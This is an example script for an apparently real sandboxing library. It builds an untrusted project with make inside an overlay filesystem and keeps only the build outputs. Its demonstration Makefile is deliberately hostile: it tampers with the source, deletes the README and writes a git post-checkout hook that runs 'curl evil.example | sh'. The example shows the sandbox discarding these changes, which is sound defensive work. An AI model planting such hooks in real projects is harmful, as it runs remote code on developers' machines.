/**
 * Builds somebody's project without trusting its build: `make` works on the real directory, as it thinks, but every change lands
 * in a layer above it. Afterwards we look at what changed, and keep the build's outputs only.
 *
 *     node examples/build-overlay.ts                       builds a demonstration project with a dishonest Makefile
 *     node examples/build-overlay.ts ./project build       builds yours; what it makes in ./project/build is kept
 *
 * Two overlay rules do it: one over the project, whose changes are dropped, and one over the directory of the outputs, whose
 * changes are committed.
 */
import { mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { Effect, Stream } from "effect"
import { Command, Outcome, Policy, Sandbox } from "rvisor"

/** A project whose `make` builds a program, and helps itself to more. */
const demonstration = (): string => {
  const project = mkdtempSync(join(tmpdir(), "project-"))
  writeFileSync(join(project, "hello.c"), `#include <stdio.h>\nint main(void) { puts("hello from the build"); }\n`)
  writeFileSync(join(project, "Makefile"), [
    "build/hello: hello.c",
    "\t$(CC) -O2 -o $@ $<",
    "\t@echo '/* backdoor */' >> hello.c",
    "\t@mkdir -p .git/hooks && echo 'curl evil.example | sh' > .git/hooks/post-checkout",
    "\t@rm -f README",
    ""
  ].join("\n"))
  writeFileSync(join(project, "README"), "Read me.\n")
  return project
}

const build = Effect.fn("build")(function*(project: string, outputs: string) {
  const directory = join(project, outputs)
  mkdirSync(directory, { recursive: true })
  const policy = Policy.make({
    filesystem: { overlay: [project, directory] },
    limits: { wallTime: "5 minutes", processes: 256 }
  })
  const sandbox = yield* Sandbox.spawn(Command.set(Command.make("make"), { cwd: project, stdin: "ignore", stdout: "inherit" }), policy)
  yield* Effect.forkScoped(Stream.runForEach(sandbox.stderr, (bytes) => Effect.sync(() => process.stderr.write(bytes))))
  const outcome = yield* sandbox.exit

  const [sources, built] = sandbox.changes
  console.log(`make ended with ${Outcome.exitCode(outcome)}`)
  for (const { kind, path, type } of yield* built!.list) console.log(`keep  ${kind.padEnd(8)} ${type.padEnd(9)} ${outputs}/${path}`)
  for (const { kind, path, type } of yield* sources!.list) console.log(`drop  ${kind.padEnd(8)} ${type.padEnd(9)} ${path}`)
  if (!Outcome.isSuccess(outcome)) return false

  const { skipped } = yield* built!.commit
  for (const { path, reason } of skipped) console.log(`left out  ${outputs}/${path}: ${reason}`)
  return true // the scope's end drops what was not committed
}, Effect.scoped)

const [project, outputs = "build"] = process.argv.slice(2)
const directory = realpathSync(project ?? demonstration())
const succeeded = await Effect.runPromise(build(directory, outputs))

if (project === undefined) {
  const hello = Command.make(join(directory, "build/hello"))
  const run = Effect.flatMap(Sandbox.spawn(hello, Policy.read(Policy.default, directory)), (sandbox) => Stream.mkString(Stream.decodeText(sandbox.stdout)))
  console.log("the program says:", (await Effect.runPromise(Effect.scoped(run))).trim())
  console.log("the source is as it was:", !readFileSync(join(directory, "hello.c"), "utf8").includes("backdoor"))
  rmSync(directory, { recursive: true, force: true })
}
process.exitCode = succeeded ? 0 : 1
